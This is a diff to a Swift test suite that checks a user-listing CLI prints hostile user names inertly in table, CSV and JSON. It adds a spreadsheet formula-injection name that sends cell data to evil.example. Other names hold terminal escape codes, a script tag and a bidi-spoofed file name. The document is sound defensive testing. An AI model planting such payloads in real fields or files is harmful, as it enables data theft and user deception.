@@ -7,7 +7,7 @@ import Testing
 /// zero-width characters, NUL, DEL, backspaces in names).
 @Suite(.serialized) struct OutputSafetyTests {
     /// Ids of the sandbox's hostile users (the admin is 1; they come next).
-    static let hostileIDs = (2...14).map(String.init)
+    static let hostileIDs = (2...15).map(String.init)
 
     @Test func everyListingFormatIsInertAndJSONKeepsEveryUser() throws {
         let sandbox = try SandboxProcess(arguments: ["--hostile-names", "--users", "40"])
@@ -20,9 +20,9 @@ import Testing
         }
         let json = try runRoster(["users", "list", "--format", "json"], env: sandbox.env)
         let users = try #require(try JSONSerialization.jsonObject(with: json.stdout) as? [[String: Any]])
-        #expect(users.count == 53, "40 seeded users and 13 hostile ones")
+        #expect(users.count == 54, "40 seeded users and 14 hostile ones")
         #expect(Set(users.compactMap { $0["id"] as? String }).isSuperset(of: Self.hostileIDs))
-        #expect(counts["table"] == 53 && counts["csv"] == 53, "one line per user in every format: \(counts)")
+        #expect(counts["table"] == 54 && counts["csv"] == 54, "one line per user in every format: \(counts)")
         // The JSON keeps the text exactly, only escaped: a script gets the name the server has.
         let clear = users.first { $0["id"] as? String == "2" }
         #expect(clear?["first_name"] as? String == "\u{1b}[2J\u{1b}[H")
@@ -34,12 +34,15 @@ import Testing
         let run = try runRoster(["users", "list", "--format", "csv"], env: sandbox.env)
         #expect(run.status == 0)
         let records = run.stdoutText.split(separator: "\n").map { csvFields(String($0)) }
-        #expect(records.count == 19, "the header, the admin, 13 hostile users and 4 more")
+        #expect(records.count == 20, "the header, the admin, 14 hostile users and 4 more")
         for record in records { #expect(record?.count == 5, "\(String(describing: record))") }
         let quoted = records.compactMap { $0 }.first { $0[0] == "14" }
         #expect(quoted?[1] == #"<script>alert(1)</script> "Quoted" \Slash"#, "quotes doubled and undone by a CSV reader")
         let bidi = records.compactMap { $0 }.first { $0[0] == "6" }
         #expect(bidi?[1] == "Bidi ⟨RLO⟩gpj.exe⟨PDF⟩", "the screen's markers, not the characters")
+        // A name a spreadsheet would run as a formula is written as text.
+        let formula = records.compactMap { $0 }.first { $0[0] == "15" }
+        #expect(formula?[1] == #"'=HYPERLINK("http://evil.example/?"&A1,"open") Formula"#)
     }
 
     @Test func showingHostileUsersAndCredentialsIsInert() throws {
